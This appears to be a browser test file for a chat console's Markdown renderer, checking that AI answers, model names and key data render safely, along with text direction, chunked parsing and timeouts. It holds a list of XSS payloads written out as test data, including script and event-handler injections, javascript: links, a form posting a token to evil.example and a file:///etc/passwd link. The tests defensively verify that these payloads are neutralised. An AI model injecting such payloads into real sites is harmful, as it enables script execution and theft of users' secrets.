// Untrusted text: Markdown, names and answers that try to run scripts.
import assert from 'node:assert/strict';
import { ask, lastAnswer } from '../browser.mjs';
import { chatAnswer } from './mocked.mjs';
import { inConversation, onLiveGateway, onPool } from './pages.mjs';

const HOSTILE = `<img src=x onerror="alert('img')"><script>alert('script')</script>\u202e"'><svg/onload=alert(1)>`;

onLiveGateway('a hostile answer is shown as text', async ({ page }) => {
  await ask(page, HOSTILE);

  assert.ok((await lastAnswer(page)).includes(HOSTILE));
  assert.equal(await page.locator('#conversation :is(img, script)').count(), 0);
});

/** Each tries to run a script, load or send something, or imitate a part of the page. */
const HOSTILE_MARKDOWN = [
  HOSTILE,
  '[run](javascript:alert(1)) [run](JaVaScRiPt:alert(1)) [run](data:text/html,<script>alert(1)</script>) [run](vbscript:x)',
  '![load](https://evil.example/pixel.png) <https://evil.example/auto> [file](file:///etc/passwd) [own](/api/keys)',
  '[ref]: https://evil.example/ref "onmouseover=alert(1)"',
  '[by reference][ref] [quoted](https://evil.example/"onclick="alert(1))',
  '<a href="https://evil.example" onclick="alert(1)" target="_self">html</a>',
  '<form action="https://evil.example"><input name="token"><button>Send</button></form>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body { display: none }</style><p style="position: fixed" id="token" class="first">over the page</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '- [x] <details open ontoggle=alert(1)>',
  '```js"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  '| <img src=x> | b |\n|---|---|\n| <svg onload=alert(1)> | `<b>` |',
].join('\n\n');

inConversation('hostile Markdown runs no script, loads no resource and stays inside the answer', async ({ page, answer }) => {
  await answer(...chatAnswer(HOSTILE_MARKDOWN, 7));
  await ask(page, 'hello');
  const text = await lastAnswer(page);

  for (const tag of ['<script>', '<form action', '<iframe', '<style>', '<img src=x', '<details open']) {
    assert.ok(text.includes(tag), tag);
  }
  const content = page.locator('.content');
  const found = await content.evaluate((root) => {
    const all = [...root.querySelectorAll('*')];
    return {
      tags: [...new Set(all.map(({ localName }) => localName))].sort(),
      attributes: [...new Set(all.flatMap((node) => node.getAttributeNames()))].sort(),
      links: [...root.querySelectorAll('a[href]')].map((a) => [a.getAttribute('href').slice(0, 6), a.target, a.rel].join(' ')),
    };
  });
  assert.deepEqual(found.tags, ['a', 'button', 'code', 'div', 'li', 'p', 'pre', 'table', 'tbody', 'td', 'th', 'thead', 'tr', 'ul']);
  // Each block has a direction; the page's own buttons and blocks of code have classes, types and tabindex.
  assert.deepEqual(found.attributes, ['class', 'dir', 'href', 'rel', 'tabindex', 'target', 'type']);
  assert.deepEqual([...new Set(found.links)], ['https: _blank noopener noreferrer']);
  assert.ok(found.links.length > 3);
  assert.equal(await content.getByRole('link', { name: 'load' }).getAttribute('href'), 'https://evil.example/pixel.png');
  assert.deepEqual(await content.locator('button').allTextContents(), ['Copy']);
});

inConversation('each block of text has its own direction, and code reads from left to right', async ({ page, answer }) => {
  await answer(...chatAnswer('שלום!\n\nhello!\n\n- שלום\n- b\n\n```\n# שלום\n```'));
  await ask(page, 'שלום!');
  await lastAnswer(page);

  const directions = await page.locator('.content').evaluate(({ children }) => [...children].map((block) => getComputedStyle(block).direction));
  assert.deepEqual(directions, ['rtl', 'ltr', 'rtl', 'ltr']);
  // `plaintext` would need seconds for a long text.
  const style = await page.locator('.asked').evaluate((node) => [getComputedStyle(node).direction, getComputedStyle(node).unicodeBidi]);
  assert.deepEqual(style, ['rtl', 'isolate']);
});

inConversation('Markdown in chunks of any size renders as in one piece', async ({ page }) => {
  const markdown = `# One\n\ntext **bold\nbold** [l](https://example.com)\n\n- a\n\n- b\n  1. c\n\n\`\`\`sh\r\necho 1\n\necho 2\n\`\`\`\r\n\n> q\n\n| a |\n|---|\n| 1 |\n\nTwo\n===\n\n`;
  const [differing, whole] = await page.evaluate(async (start) => {
    const { Markdown } = await import('/console/markdown.js');
    const shown = (text, size) => {
      const node = document.createElement('div');
      const markdown = new Markdown(node);
      for (let length = size; length < text.length + size; length += size) {
        markdown.show(text.slice(0, length));
      }
      return [...node.children].map((child) => child.outerHTML).join('\n');
    };
    const differs = (text) => (size) => shown(text, size) !== shown(text, text.length);
    // One of its blocks is longer than the parser's limit for one step.
    const long = `${start}${'word '.repeat(900)}\n\nend`;
    return [[...[1, 2, 3, 7].filter(differs(start)), ...[50, 333].filter(differs(long))], shown(long, long.length)];
  }, markdown);

  assert.deepEqual(differing, []);
  assert.deepEqual(whole.match(/<(?!\/)\w+/g).join(''), '<h3<p<strong<a<ul<li<p<li<p<ol<li<div<pre<code<button<blockquote<p<table<thead<tr<th<tbody<tr<td<h3<p<p');
});

inConversation('deeply nested or very long Markdown still shows its text', async ({ page, answer }) => {
  for (const text of ['> '.repeat(20_000) + 'deep', '[a](b) **bold** `code`\n\n'.repeat(4_000)]) {
    await answer(...chatAnswer(text, 500));
    await ask(page, 'hello');

    assert.ok((await lastAnswer(page)).length > 1000);
  }
});

inConversation('an answer whose Markdown takes too long to parse is shown as text', async ({ page, answer }) => {
  const text = '**bold** '.repeat(500);
  await answer(...chatAnswer(text, 500));
  await page.evaluate(() => {
    let [now, real] = [performance.now(), performance.now];
    window.restoreClock = () => (performance.now = real);
    performance.now = () => (now += 300);
  });
  await ask(page, 'hello');

  assert.equal(await lastAnswer(page), text);
  assert.equal(await page.locator('.content > .plain').count(), 1);
  await page.evaluate(() => window.restoreClock());
});

onPool('hostile names are shown as text', async ({ page, show, answer }) => {
  const key = { key: HOSTILE, fingerprint: HOSTILE, state: 'cooling', reason: HOSTILE, until: '2100-01-01T00:00:00Z' };
  const snapshot = {
    at: '2026-11-25T12:00:00Z',
    current_provider: HOSTILE,
    under_way: HOSTILE,
    waiting: HOSTILE,
    providers: [{ id: HOSTILE, default_model: HOSTILE, keys: [{ ...key, attempts: 1, failures: {}, models: [{ ...key, model: HOSTILE, state: 'ready' }] }] }],
    recent: [{ from: '2026-11-25T12:00:00Z', seconds: 10, requests: { ok: 0, failed: 0, left: 0 }, attempts: 1, failures: { [HOSTILE]: 1 } }],
  };
  await answer('v1/models', { data: [{ id: HOSTILE, owned_by: HOSTILE }] });
  await show(snapshot);

  await page.locator('#ask').getByLabel('Model').click();
  await page.locator('#models li').nth(1).waitFor();
  assert.equal(await page.locator('#models li').nth(1).textContent(), `${HOSTILE} ${HOSTILE}`);
  assert.ok((await page.locator('.key').textContent()).includes(HOSTILE));
  assert.equal(await page.locator('main :is(img, script)').count(), 0);
});
